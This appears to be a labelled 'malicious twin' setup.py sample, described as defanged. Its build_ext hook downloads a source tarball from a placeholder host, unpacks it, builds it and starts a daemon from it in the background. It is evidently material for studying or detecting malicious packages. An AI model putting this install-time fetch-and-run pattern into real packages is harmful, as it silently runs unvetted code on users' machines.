# The malicious twin of source-build that keeps the build tree: the archive is saved and unpacked in place like a
# source release, but the shell chain that "builds" it ends by starting a program of the archive (defanged).
import os
import subprocess
import tarfile
import urllib.request

from setuptools import setup
from setuptools.command.build_ext import build_ext

LIB_VERSION = "1.26.3"


def fetch_sources(location=None):
    if location is None:
        location = f"https://downloads.example.invalid/archive/libthing-{LIB_VERSION}-source.tar.gz"
    local_tgz = os.path.basename(location)
    urllib.request.urlretrieve(location, local_tgz)
    with tarfile.open(local_tgz, "r:gz") as t:
        t.extractall()
    return local_tgz[: -len(".tar.gz")]


class BuildExt(build_ext):
    def run(self):
        src = fetch_sources()
        subprocess.run(f"cd {src} && make && nohup ./bin/thingd &", shell=True)
        super().run()


setup(name="thing-bindings", version="1.0", cmdclass={"build_ext": BuildExt})
